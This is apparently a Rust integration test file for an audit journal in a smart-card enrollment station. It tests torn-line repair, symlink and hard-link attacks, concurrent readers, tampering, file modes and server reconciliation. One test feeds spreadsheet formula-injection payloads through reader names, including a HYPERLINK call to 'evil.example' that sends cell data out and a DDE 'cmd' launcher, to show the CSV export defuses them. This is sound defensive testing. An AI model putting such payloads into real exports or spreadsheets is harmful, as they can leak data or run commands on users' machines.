//! The audit journal under real conditions, on real files and the real
//! binary: a full disk, a crash mid-line, a second path to the same file, a
//! link planted where a file is written, a reader racing a writer, another
//! program changing the file, a spreadsheet opening an export, and an open
//! attempt reconciled against the wrong server.

mod common;

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use enroll_station::audit::journal::Journal as _;
use enroll_station::audit::{
    AttemptInfo, AuditError, AuditJournal, Operator, Outcome, OutcomeInfo, verify,
};
use enroll_station::cm::emulator::{Emulator, EmulatorConfig};
use enroll_station::domain::card::{Atr, CardId};
use uuid::Uuid;

const CM1: &str = "https://cm1.contoso.com/CertificateManagement/api/v1.0/";

fn attempt(n: u8) -> AttemptInfo {
    AttemptInfo {
        station: "desk-7".into(),
        operator: Operator {
            os_user: Some("alice".into()),
            principal: Some("alice@CONTOSO.COM".into()),
        },
        supervisor: None,
        request_id: Uuid::from_u128(u128::from(n)),
        person: Some(format!("Person {n}")),
        card_id: CardId::from_raw([n; 16]),
        atr: Atr::from_bytes(vec![0x3b, 0x8d, n]),
        reader: "Virtual PCD 00 00".into(),
        message: None,
        api_base: Some(CM1.into()),
    }
}

/// `n` whole binds (attempt and outcome), the journal closed again.
fn journal_of_binds(path: &Path, n: u8) {
    let mut journal = AuditJournal::open(path).expect("the journal opens");
    for i in 1..=n {
        let id = journal.record_attempt(attempt(i)).expect("attempt");
        journal
            .record_outcome(id, Outcome::Bound, OutcomeInfo::default())
            .expect("outcome");
    }
}

fn station(home: &common::binary::StationHome, args: &[&str]) -> Output {
    home.command().args(args).output().expect("the binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn arg(path: &Path) -> String {
    path.display().to_string()
}

/// The `.torn-…` copies beside the journal.
fn torn_copies(path: &Path) -> Vec<PathBuf> {
    let name = path.file_name().expect("a name").to_string_lossy();
    let mut copies: Vec<PathBuf> = std::fs::read_dir(path.parent().expect("a folder"))
        .expect("listed")
        .map(|entry| entry.expect("an entry").path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with(&format!("{name}.torn-")))
        })
        .collect();
    copies.sort();
    copies
}

/// A write cut short by a full disk leaves half a line; `audit verify`
/// reports it (after waiting for a writer that never finishes it), the next
/// start cuts it, keeps it in a copy, says so, and the chain goes on.
#[test]
fn a_torn_tail_after_a_full_disk_is_repaired_on_the_next_start() {
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    journal_of_binds(&path, 2);
    let intact = std::fs::read(&path).expect("readable");
    // What a full disk leaves: the first part of the next line.
    let half = br#"{"seq":5,"time":"2026-12-04T09:14:33.123Z","event":"attempt","outc"#;
    std::fs::OpenOptions::new()
        .append(true)
        .open(&path)
        .and_then(|mut file| file.write_all(half))
        .expect("half a line");

    let output = station(&home, &["audit", "verify", &arg(&path)]);
    assert!(!output.status.success(), "{}", text(&output.stdout));
    let stderr = text(&output.stderr);
    assert!(stderr.contains("incomplete line"), "{stderr}");
    assert!(stderr.contains("repairs it when it next opens"), "{stderr}");

    // The next start: the window, `bind` and `audit reconcile` all open the
    // journal this way; `audit reconcile` says what it repaired.
    let emulator = Emulator::start_on_thread(EmulatorConfig::default()).expect("emulator");
    let output = station(
        &home,
        &[
            "audit",
            "reconcile",
            "--server",
            &emulator.base_url(),
            "--audit-file",
            &arg(&path),
        ],
    );
    let stdout = text(&output.stdout);
    assert!(
        output.status.success(),
        "{stdout}\n{}",
        text(&output.stderr)
    );
    assert!(stdout.contains("ended in an incomplete line"), "{stdout}");
    assert!(stdout.contains("kept a copy in"), "{stdout}");

    let copies = torn_copies(&path);
    assert_eq!(copies.len(), 1, "{copies:?}");
    assert_eq!(std::fs::read(&copies[0]).expect("the copy"), half);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&copies[0])
            .expect("meta")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    assert_eq!(
        std::fs::read(&path).expect("readable"),
        intact,
        "everything before the tear is kept, and only that"
    );

    let output = station(&home, &["audit", "verify", &arg(&path)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(
        text(&output.stdout).contains("4 records"),
        "{}",
        text(&output.stdout)
    );
}

/// The same on a real full disk, where the machine allows a small tmpfs
/// (root, Linux): the write fails part-way with ENOSPC, binding stops,
/// and once there is room again the next start repairs the journal.
#[cfg(target_os = "linux")]
#[test]
fn a_real_full_disk_stops_the_journal_and_the_next_start_repairs_it() {
    let mount = tempfile::tempdir().expect("a mount point");
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k,mode=0700", "tmpfs"])
        .arg(mount.path())
        .output();
    if !mounted.is_ok_and(|o| o.status.success()) {
        eprintln!("skipped: no tmpfs can be mounted here (needs root)");
        return;
    }
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _unmount = Unmount(mount.path().to_owned());
    let path = mount.path().join("audit.jsonl");
    let mut journal = AuditJournal::open(&path).expect("opens");
    let first = journal.record_attempt(attempt(1)).expect("room for one");
    journal
        .record_outcome(first, Outcome::Bound, OutcomeInfo::default())
        .expect("and its outcome");
    // Fill the rest of the disk.
    let filler = mount.path().join("filler");
    let mut fill = std::fs::File::create(&filler).expect("filler");
    while fill.write_all(&[0; 1024]).is_ok() {}
    drop(fill);
    let mut n = 2;
    let error = loop {
        match journal.record_attempt(attempt(n)) {
            Ok(_) => n += 1,
            Err(error) => break error,
        }
        assert!(n < 100, "the disk never filled");
    };
    assert!(matches!(error, AuditError::Io { .. }), "{error}");
    assert!(error.to_string().contains("binding stays off"), "{error}");
    drop(journal);
    std::fs::remove_file(&filler).expect("room again");

    let torn = !std::fs::read(&path).expect("readable").ends_with(b"\n");
    let journal = AuditJournal::open(&path).expect("the next start opens it");
    assert_eq!(journal.repair().is_some(), torn);
    if torn {
        assert_eq!(torn_copies(&path).len(), 1);
    }
    drop(journal);
    verify(&path).expect("intact after the repair");
}

/// The lock is on the file, not on the text of its path: a second path
/// through a linked folder, a hard link or `..` meets the same lock, and
/// a symbolic link at the journal's own name is refused outright.
#[cfg(unix)]
#[test]
fn two_paths_to_one_journal_give_one_writer() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let real = dir.path().join("data");
    std::fs::create_dir(&real).expect("a folder");
    let path = real.join("audit.jsonl");
    let first = AuditJournal::open(&path).expect("the first writer");

    let linked_dir = dir.path().join("linked");
    std::os::unix::fs::symlink(&real, &linked_dir).expect("a linked folder");
    let hard = dir.path().join("hard.jsonl");
    std::fs::hard_link(&path, &hard).expect("a hard link");
    let dotted = real.join("..").join("data").join("audit.jsonl");
    for other in [linked_dir.join("audit.jsonl"), hard.clone(), dotted] {
        let second = AuditJournal::open(&other).expect_err("one writer");
        assert!(
            matches!(second, AuditError::InUse { .. }),
            "{}: {second}",
            other.display()
        );
    }

    let link = dir.path().join("link.jsonl");
    std::os::unix::fs::symlink(&path, &link).expect("a link to the journal");
    let refused = AuditJournal::open(&link).expect_err("a link is refused");
    assert!(matches!(refused, AuditError::NotAFile { .. }), "{refused}");
    assert!(refused.to_string().contains("symbolic link"), "{refused}");
    drop(first);
    // Free again: the hard link is the same journal, and it opens.
    let reopened = AuditJournal::open(&hard).expect("opens once free");
    drop(reopened);
    // The link is refused even when nobody holds the journal.
    assert!(matches!(
        AuditJournal::open(&link),
        Err(AuditError::NotAFile { .. })
    ));
}

/// Links planted where the station writes are replaced or refused, never
/// written through: the journal, the configuration file, `--output` of an
/// export, and the dated export names.
#[cfg(unix)]
#[test]
fn a_planted_symlink_is_not_followed() {
    use std::os::unix::fs::PermissionsExt as _;
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "the victim's own file\n").expect("written");
    let mode = |path: &Path| std::fs::metadata(path).expect("meta").permissions().mode() & 0o777;

    // The journal.
    let planted = dir.path().join("audit.jsonl");
    std::os::unix::fs::symlink(&victim, &planted).expect("planted");
    let refused = AuditJournal::open(&planted).expect_err("refused");
    assert!(matches!(refused, AuditError::NotAFile { .. }), "{refused}");
    let dangling = dir.path().join("dangling.jsonl");
    std::os::unix::fs::symlink(dir.path().join("new-victim"), &dangling).expect("planted");
    assert!(AuditJournal::open(&dangling).is_err());
    assert!(!dir.path().join("new-victim").exists(), "nothing created");

    // The configuration file.
    let config = dir.path().join("station.toml");
    std::os::unix::fs::symlink(&victim, &config).expect("planted");
    enroll_station::config::StationConfig::default()
        .save(&config)
        .expect("saved");
    assert!(std::fs::symlink_metadata(&config).expect("meta").is_file());
    assert_eq!(mode(&config), 0o600);

    // An export's --output.
    let journal = dir.path().join("real.jsonl");
    journal_of_binds(&journal, 1);
    assert_eq!(mode(&journal), 0o600, "a new journal is its owner's");
    let out = dir.path().join("export.csv");
    std::os::unix::fs::symlink(&victim, &out).expect("planted");
    let output = station(
        &home,
        &[
            "audit",
            "export",
            "--format",
            "csv",
            "--output",
            &arg(&out),
            &arg(&journal),
        ],
    );
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(std::fs::symlink_metadata(&out).expect("meta").is_file());
    assert!(text(&std::fs::read(&out).expect("the export")).starts_with("seq,"));
    assert_eq!(mode(&out), 0o600);

    // A dated export name taken by a link is skipped, not followed.
    let exports = dir.path().join("exports");
    std::fs::create_dir(&exports).expect("a folder");
    let day = time::Date::from_calendar_date(2026, time::Month::December, 4).expect("a date");
    let first = exports.join(enroll_station::audit::export_file_name(
        day,
        enroll_station::audit::ExportFormat::Json,
        1,
    ));
    std::os::unix::fs::symlink(&victim, &first).expect("planted");
    let (written, _) = enroll_station::audit::export_to_new_file(
        &journal,
        enroll_station::audit::ExportFormat::Json,
        &exports,
        day,
    )
    .expect("exported");
    assert_ne!(written, first);

    assert_eq!(
        std::fs::read_to_string(&victim).expect("read"),
        "the victim's own file\n",
        "no write went through a link"
    );
}

/// A reader name a rogue USB reader chose, starting with `=`, reaches the
/// CSV export as text a spreadsheet does not run.
#[test]
fn a_csv_export_of_a_formula_like_reader_name_is_inert() {
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTabbed",
        "\r=1+1",
    ];
    let mut journal = AuditJournal::open(&path).expect("opens");
    for (i, reader) in hostile.iter().enumerate() {
        let _open = journal
            .record_attempt(AttemptInfo {
                reader: (*reader).to_owned(),
                operator: Operator {
                    os_user: Some("=1+1".into()),
                    principal: None,
                },
                ..attempt(i as u8 + 1)
            })
            .expect("attempt");
    }
    drop(journal);
    let output = station(&home, &["audit", "export", "--format", "csv", &arg(&path)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let csv = text(&output.stdout);
    let rows: Vec<&str> = csv.split("\r\n").filter(|r| !r.is_empty()).collect();
    assert_eq!(rows.len(), hostile.len() + 1, "{csv}");
    let header: Vec<&str> = rows[0].split(',').collect();
    let reader = header.iter().position(|h| *h == "reader").expect("reader");
    let user = header
        .iter()
        .position(|h| *h == "operator_os_user")
        .expect("user");
    for row in &rows[1..] {
        let cells = csv_cells(row);
        assert_eq!(cells.len(), header.len(), "{row}");
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live cell {cell:?} in {row}"
            );
        }
        assert!(cells[reader].starts_with('\''), "{row}");
        assert_eq!(cells[user], "'=1+1");
    }
    assert_eq!(
        csv_cells(rows[1])[reader],
        "'=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")"
    );
    // The JSON export keeps the value as journalled: it runs nothing.
    let output = station(&home, &["audit", "export", "--format", "json", &arg(&path)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let records: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(records[0]["reader"], hostile[0]);
}

/// The cells of one CSV row (RFC 4180 quoting).
fn csv_cells(row: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = row.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().expect("a cell").push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().expect("a cell").push(c),
        }
    }
    cells
}

/// An attempt journalled against one server is not judged by another: the
/// real binary, pointed at another server, leaves it open and says which
/// server to reconcile it with; pointed at its own server, it is resolved.
#[test]
fn reconcile_refuses_an_attempt_made_against_another_server() {
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    let emulator = Emulator::start_on_thread(EmulatorConfig::default()).expect("emulator");
    let request = common::first_bindable(&emulator);
    let here = enroll_station::cm::client::api_base_url(&emulator.base_url())
        .expect("the emulator's API")
        .to_string();
    let mut journal = AuditJournal::open(&path).expect("opens");
    let elsewhere = journal
        .record_attempt(AttemptInfo {
            request_id: request.uuid,
            ..attempt(1)
        })
        .expect("an attempt that went to cm1");
    let _ = elsewhere;
    drop(journal);

    let reconcile = || {
        station(
            &home,
            &[
                "audit",
                "reconcile",
                "--server",
                &emulator.base_url(),
                "--audit-file",
                &arg(&path),
            ],
        )
    };
    let output = reconcile();
    let stdout = text(&output.stdout);
    assert!(output.status.success(), "{stdout}{}", text(&output.stderr));
    assert!(
        stdout.contains(&format!(
            "This attempt went to {CM1}; the station now talks to {here}: reconcile it with \
             `enroll-station audit reconcile --server {CM1}`"
        )),
        "{stdout}"
    );
    let report = verify(&path).expect("intact");
    assert_eq!(report.unfinished, 1, "left open for its own server");
    assert_eq!(emulator.bind_count(), 0);

    // The same kind of attempt sent to this server is judged by it.
    let mut journal = AuditJournal::open(&path).expect("opens");
    let _ours = journal
        .record_attempt(AttemptInfo {
            request_id: request.uuid,
            api_base: Some(here.clone()),
            ..attempt(2)
        })
        .expect("an attempt that went here");
    drop(journal);
    let output = reconcile();
    let stdout = text(&output.stdout);
    assert!(output.status.success(), "{stdout}{}", text(&output.stderr));
    assert!(stdout.contains("Reconciled: "), "{stdout}");
    assert!(stdout.contains("This attempt went to"), "{stdout}");
    assert_eq!(verify(&path).expect("intact").unfinished, 1);
}

/// Every attempt says where it went, through the port the bind uses; an
/// outcome repeats it.
#[test]
fn every_attempt_records_the_api_base() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    let mut journal = AuditJournal::open(&path).expect("opens");
    let target = enroll_station::domain::bind::BindTarget {
        request_id: Uuid::from_u128(7),
        person: "Jane Doe".into(),
        reader: "Reader 0".into(),
        expected: enroll_station::domain::card::CardIdentity {
            atr: Atr::from_bytes(vec![0x3b, 0x8d, 7]),
            card_id: CardId::from_raw([7; 16]),
            kind: enroll_station::domain::card::CardKind::Gids,
            chip: None,
            location: None,
            yubikey_serial: None,
        },
        supervisor: None,
    };
    let id = enroll_station::audit::journal::Journal::record_attempt(
        &mut journal,
        &target,
        Operator::default(),
        CM1,
    )
    .expect("recorded");
    let open = journal.open_attempts();
    assert_eq!(open[0].api_base.as_deref(), Some(CM1));
    enroll_station::audit::journal::Journal::record_outcome(
        &mut journal,
        &id,
        Outcome::Bound,
        OutcomeInfo::default(),
    )
    .expect("outcome");
    drop(journal);
    let text = std::fs::read_to_string(&path).expect("readable");
    assert_eq!(
        text.matches(&format!("\"api_base\":\"{CM1}\"")).count(),
        2,
        "{text}"
    );
}

/// While a writer appends, a reader (`verify`, `export`) sees a complete
/// journal every time: a line caught half written is read again, not
/// reported.
#[test]
fn a_reader_sees_a_complete_file_while_a_writer_appends() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    journal_of_binds(&path, 1);

    // A line finished a little later than the reader first looked.
    let intact = std::fs::read(&path).expect("readable");
    let mut journal = AuditJournal::open(&path).expect("opens");
    let _open = journal.record_attempt(attempt(2)).expect("attempt");
    drop(journal);
    let whole = std::fs::read(&path).expect("readable");
    let cut = intact.len() + (whole.len() - intact.len()) / 2;
    std::fs::write(&path, &whole[..cut]).expect("half of the last line");
    let finisher = {
        let path = path.clone();
        let rest = whole[cut..].to_vec();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(120));
            std::fs::OpenOptions::new()
                .append(true)
                .open(&path)
                .and_then(|mut file| file.write_all(&rest))
                .expect("the rest of the line");
        })
    };
    let report = verify(&path).expect("the finished line is read, not reported");
    assert_eq!(report.records, 3);
    finisher.join().expect("finished");

    // A real writer appending while readers read, over and over.
    let writer = {
        let path = path.clone();
        std::thread::spawn(move || {
            let mut journal = AuditJournal::open(&path).expect("opens");
            for n in 10..70u8 {
                let id = journal.record_attempt(attempt(n)).expect("attempt");
                journal
                    .record_outcome(id, Outcome::Bound, OutcomeInfo::default())
                    .expect("outcome");
            }
        })
    };
    // At least one read, however fast the writer is.
    loop {
        let running = !writer.is_finished();
        verify(&path).expect("a complete journal");
        let mut out = Vec::new();
        enroll_station::audit::export(&path, enroll_station::audit::ExportFormat::Json, &mut out)
            .expect("a complete export");
        if !running {
            break;
        }
    }
    writer.join().expect("the writer finished");
    assert_eq!(verify(&path).expect("intact").records, 3 + 120);
}

/// Another program that cuts, appends to or replaces the journal while the
/// station holds it stops the next append, in words.
#[cfg(unix)]
#[test]
fn a_journal_changed_behind_the_writer_is_not_appended_to() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    // What another program does to the file.
    type Change = fn(&Path);
    let cases: [(&str, Change); 3] = [
        ("something else was appended", |path| {
            std::fs::OpenOptions::new()
                .append(true)
                .open(path)
                .and_then(|mut file| file.write_all(b"{\"seq\":99}\n"))
                .expect("appended");
        }),
        ("its end was cut", |path| {
            let bytes = std::fs::read(path).expect("read");
            let keep = bytes[..bytes.len() - 1]
                .iter()
                .rposition(|b| *b == b'\n')
                .expect("two lines")
                + 1;
            std::fs::OpenOptions::new()
                .write(true)
                .open(path)
                .and_then(|file| file.set_len(keep as u64))
                .expect("cut");
        }),
        ("another file was put", |path| {
            let bytes = std::fs::read(path).expect("read");
            let aside = path.with_extension("old");
            std::fs::rename(path, &aside).expect("moved aside");
            std::fs::write(path, bytes).expect("a copy in its place");
        }),
    ];
    for (n, (words, change)) in cases.into_iter().enumerate() {
        let path = dir.path().join(format!("audit-{n}.jsonl"));
        let mut journal = AuditJournal::open(&path).expect("opens");
        for i in 1..=2 {
            let id = journal.record_attempt(attempt(i)).expect("attempt");
            journal
                .record_outcome(id, Outcome::Bound, OutcomeInfo::default())
                .expect("outcome");
        }
        change(&path);
        let error = journal.record_attempt(attempt(3)).expect_err("refused");
        let message = error.to_string();
        assert!(matches!(error, AuditError::Changed { .. }), "{message}");
        assert!(message.contains(words), "{message}");
        assert!(message.contains("changed by another program"), "{message}");
        let again = journal
            .record_attempt(attempt(4))
            .expect_err("still refused");
        assert!(matches!(again, AuditError::Unusable { .. }), "{again}");
    }
}

/// A torn tail is cut only when everything before it verifies: after an
/// edited record the journal is refused as broken, left exactly as it is
/// (the evidence), and no copy is made.
#[test]
fn a_torn_tail_after_a_broken_chain_is_not_repaired() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    journal_of_binds(&path, 2);
    let text = std::fs::read_to_string(&path).expect("readable");
    let mut edited = text.replacen("Person 1", "Person 9", 1);
    assert_ne!(edited, text, "the edit took");
    edited.push_str(r#"{"seq":5,"time":"2026-"#);
    std::fs::write(&path, &edited).expect("written");

    let refused = AuditJournal::open(&path).expect_err("a broken journal is not opened");
    assert!(matches!(refused, AuditError::Broken { .. }), "{refused}");
    assert!(refused.to_string().contains("line 1"), "{refused}");
    assert_eq!(
        std::fs::read_to_string(&path).expect("readable"),
        edited,
        "nothing was cut"
    );
    assert!(torn_copies(&path).is_empty(), "no copy was made");
}

/// The files the station writes are its owner's: a new journal `0600`, an
/// existing one narrowed so that others can neither read nor write it (a
/// group that may read it, `0640`, is the site's choice and stays), the
/// configuration `0600`, the supervisor refusal count and its lock `0600`.
#[cfg(unix)]
#[test]
fn files_the_station_writes_are_its_owners() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().expect("a temporary directory");
    let mode = |path: &Path| {
        let meta = std::fs::symlink_metadata(path).expect("meta");
        assert!(meta.is_file(), "{} is a file", path.display());
        meta.permissions().mode() & 0o777
    };
    let chmod = |path: &Path, mode: u32| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
    };

    let journal = dir.path().join("audit.jsonl");
    journal_of_binds(&journal, 1);
    assert_eq!(mode(&journal), 0o600, "a new journal");
    chmod(&journal, 0o666);
    drop(AuditJournal::open(&journal).expect("opens"));
    assert_eq!(mode(&journal), 0o640, "others lose read and write");
    chmod(&journal, 0o640);
    drop(AuditJournal::open(&journal).expect("opens"));
    assert_eq!(mode(&journal), 0o640, "the site's group read stays");
    verify(&journal).expect("still intact");

    let config = dir.path().join("station.toml");
    std::fs::write(&config, "mode = \"desk\"\n").expect("written");
    chmod(&config, 0o644);
    enroll_station::config::StationConfig::default()
        .save(&config)
        .expect("saved");
    assert_eq!(mode(&config), 0o600, "the configuration");

    let counts = enroll_station::supervisors::refusals_path(&journal);
    let store = supervisors().sharing_refusals(counts.clone());
    let wrong = enroll_station::platform::secrets::Secret::new("wrong");
    assert!(store.verify("Bob", &wrong).is_err());
    assert!(
        std::fs::read_to_string(&counts)
            .expect("the count")
            .contains(r#""refusals":1"#)
    );
    assert_eq!(mode(&counts), 0o600, "the refusal count");
    let mut lock = counts.as_os_str().to_owned();
    lock.push(".lock");
    assert_eq!(mode(Path::new(&lock)), 0o600, "its lock");
}

/// One supervisor, Bob, for the refusal count.
fn supervisors() -> enroll_station::supervisors::SupervisorStore {
    use enroll_station::config::SupervisorEntry;
    use enroll_station::supervisors::{
        HashCost, SupervisorAccount, SupervisorName, SupervisorStore, hash_password,
    };
    let secret = enroll_station::platform::secrets::Secret::new("correct horse battery");
    SupervisorStore::from_config(&[SupervisorEntry {
        name: SupervisorName::try_from("Bob".to_owned()).expect("a name"),
        account: Some(SupervisorAccount::try_from("CONTOSO\\bob".to_owned()).expect("an account")),
        password_hash: hash_password(&secret, HashCost::Minimal).expect("a hash"),
    }])
}

/// Links planted at the supervisor refusal count and its lock: the lock is
/// refused (the count is then kept in the process), the count is replaced,
/// and the file a link points to is never written.
#[cfg(unix)]
#[test]
fn a_planted_symlink_at_the_refusal_count_is_not_followed() {
    let dir = tempfile::tempdir().expect("a temporary directory");
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "the victim's own file\n").expect("written");
    let counts = enroll_station::supervisors::refusals_path(&dir.path().join("audit.jsonl"));
    let mut lock = counts.as_os_str().to_owned();
    lock.push(".lock");
    let lock = PathBuf::from(lock);
    let wrong = enroll_station::platform::secrets::Secret::new("wrong");

    std::os::unix::fs::symlink(&victim, &lock).expect("planted");
    assert!(
        supervisors()
            .sharing_refusals(counts.clone())
            .verify("Bob", &wrong)
            .is_err()
    );
    assert!(
        std::fs::symlink_metadata(&counts).is_err(),
        "no count is written without its lock"
    );
    std::fs::remove_file(&lock).expect("removed");

    std::os::unix::fs::symlink(&victim, &counts).expect("planted");
    assert!(
        supervisors()
            .sharing_refusals(counts.clone())
            .verify("Bob", &wrong)
            .is_err()
    );
    assert!(std::fs::symlink_metadata(&counts).expect("meta").is_file());
    assert!(
        std::fs::read_to_string(&counts)
            .expect("the count")
            .contains(r#""refusals":1"#)
    );
    assert_eq!(
        std::fs::read_to_string(&victim).expect("read"),
        "the victim's own file\n",
        "no write went through a link"
    );
}

/// The JSON export writes each record again from its parsed fields: a
/// journal whose lines are spelled differently (keys in another order,
/// `\u` escapes, a trailing space) but chain correctly exports in the
/// station's own spelling, and none of its lines passes through as it is.
#[test]
fn the_json_export_is_written_again_from_the_records() {
    let home = common::binary::StationHome::new();
    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    journal_of_binds(&path, 2);
    let originals: Vec<enroll_station::audit::Record> = std::fs::read_to_string(&path)
        .expect("readable")
        .lines()
        .map(|line| serde_json::from_str(line).expect("a record"))
        .collect();

    // Spelled otherwise, chained again: keys sorted (serde_json's map),
    // the person's digits as `\u` escapes, a space before the line break.
    let mut prev = enroll_station::audit::GENESIS_HASH.to_owned();
    let mut respelled = Vec::new();
    for record in &originals {
        let mut value = serde_json::to_value(record).expect("a value");
        value["prev_hash"] = serde_json::Value::String(prev.clone());
        let mut line = serde_json::to_string(&value).expect("encoded");
        for digit in ['1', '2'] {
            line = line.replace(
                &format!("\"Person {digit}\""),
                &format!("\"Person \\u003{digit}\""),
            );
        }
        line.push(' ');
        prev = hex::encode(ring::digest::digest(&ring::digest::SHA256, line.as_bytes()));
        respelled.push(line);
    }
    assert!(respelled[0].contains(r"Person \u0031"), "{}", respelled[0]);
    std::fs::write(&path, respelled.join("\n") + "\n").expect("written");
    assert_eq!(verify(&path).expect("a valid chain").records, 4);

    let output = station(&home, &["audit", "export", "--format", "json", &arg(&path)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let exported = text(&output.stdout);
    for line in &respelled {
        assert!(!exported.contains(line.trim_end()), "copied: {line}");
    }
    assert!(!exported.contains(r"\u00"), "{exported}");
    let records: Vec<enroll_station::audit::Record> =
        serde_json::from_str(&exported).expect("a JSON array of records");
    assert_eq!(records.len(), 4);
    for (record, original) in records.iter().zip(&originals) {
        assert_eq!(record.person, original.person);
        assert!(
            exported.contains(&serde_json::to_string(record).expect("encoded")),
            "record {} in the station's spelling: {exported}",
            record.seq
        );
    }
    assert_eq!(records[0].person.as_deref(), Some("Person 1"));
}

/// A bind asked for while start-up reconciliation is still asking the server
/// about an earlier attempt waits for it: otherwise the server's answer
/// about the old attempt could be the new bind's (a false "bound", or a
/// false alarm). The server here never answers, so reconciliation takes
/// its full timeout.
#[test]
fn a_bind_waits_for_start_up_reconciliation() {
    use enroll_station::cm::{ClientConfig, CmClient};
    use enroll_station::worker::{Command, Report};
    use std::sync::{Arc, Mutex};

    // A server that takes connections and never answers, until told to stop.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a loopback port");
    let address = listener.local_addr().expect("its address");
    listener.set_nonblocking(true).expect("non-blocking");
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let held = {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || {
            let mut held = Vec::new();
            let deadline = std::time::Instant::now() + Duration::from_secs(30);
            while !stop.load(std::sync::atomic::Ordering::Relaxed)
                && std::time::Instant::now() < deadline
            {
                match listener.accept() {
                    Ok((stream, _)) => held.push(stream),
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        })
    };
    let mut config = ClientConfig::new(format!("http://{address}"));
    config.request_timeout = Duration::from_millis(700);
    let client = CmClient::new(&config).expect("a client");

    let dir = tempfile::tempdir().expect("a temporary directory");
    let path = dir.path().join("audit.jsonl");
    let mut journal = AuditJournal::open(&path).expect("opens");
    let _open = journal
        .record_attempt(AttemptInfo {
            api_base: Some(client.api_base().to_owned()),
            ..attempt(1)
        })
        .expect("an attempt a crash left open");
    drop(journal);

    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("a runtime");
    let context = enroll_station::worker::effects::BindContext {
        client,
        readers: enroll_station::card::demo::DemoReader::new(Arc::new(|_| {})),
        journal: enroll_station::audit::journal::open_shared(Some(&path), false)
            .expect("the journal"),
    };
    #[derive(Debug, PartialEq)]
    enum Heard {
        Notice(String),
        Bind,
    }
    let heard = Arc::new(Mutex::new(Vec::new()));
    let sink: enroll_station::worker::ReportSink = {
        let heard = Arc::clone(&heard);
        Arc::new(move |report| {
            let entry = match report {
                Report::Notice(line) => Heard::Notice(line),
                Report::Bind(_) => Heard::Bind,
                _ => return,
            };
            if let Ok(mut heard) = heard.lock() {
                heard.push(entry);
            }
        })
    };
    let worker = enroll_station::worker::spawn_worker(runtime.handle(), context, sink);
    let target = enroll_station::domain::bind::BindTarget {
        request_id: Uuid::from_u128(1),
        person: "Person 1".into(),
        reader: "Reader 0".into(),
        expected: enroll_station::domain::card::CardIdentity {
            atr: Atr::from_bytes(vec![0x3b, 0x8d, 1]),
            card_id: CardId::from_raw([1; 16]),
            kind: enroll_station::domain::card::CardKind::Gids,
            chip: None,
            location: None,
            yubikey_serial: None,
        },
        supervisor: None,
    };
    worker.send(Command::Bind(target.clone()));
    worker.send(Command::Bind(target));

    let settled = || {
        heard
            .lock()
            .map(|heard| heard.contains(&Heard::Bind))
            .unwrap_or(false)
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while !settled() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let heard = heard
        .lock()
        .expect("the reports")
        .drain(..)
        .collect::<Vec<_>>();
    let waits = heard
        .iter()
        .filter(|h| matches!(h, Heard::Notice(line) if line.contains("has checked the earlier")))
        .count();
    assert_eq!(waits, 1, "one bind waits, said once: {heard:?}");
    let unresolved = heard
        .iter()
        .position(|h| matches!(h, Heard::Notice(line) if line.contains("still unresolved")))
        .expect("the old attempt was asked about");
    let first_bind = heard
        .iter()
        .position(|h| *h == Heard::Bind)
        .expect("the bind started");
    assert!(unresolved < first_bind, "{heard:?}");
    drop(worker);
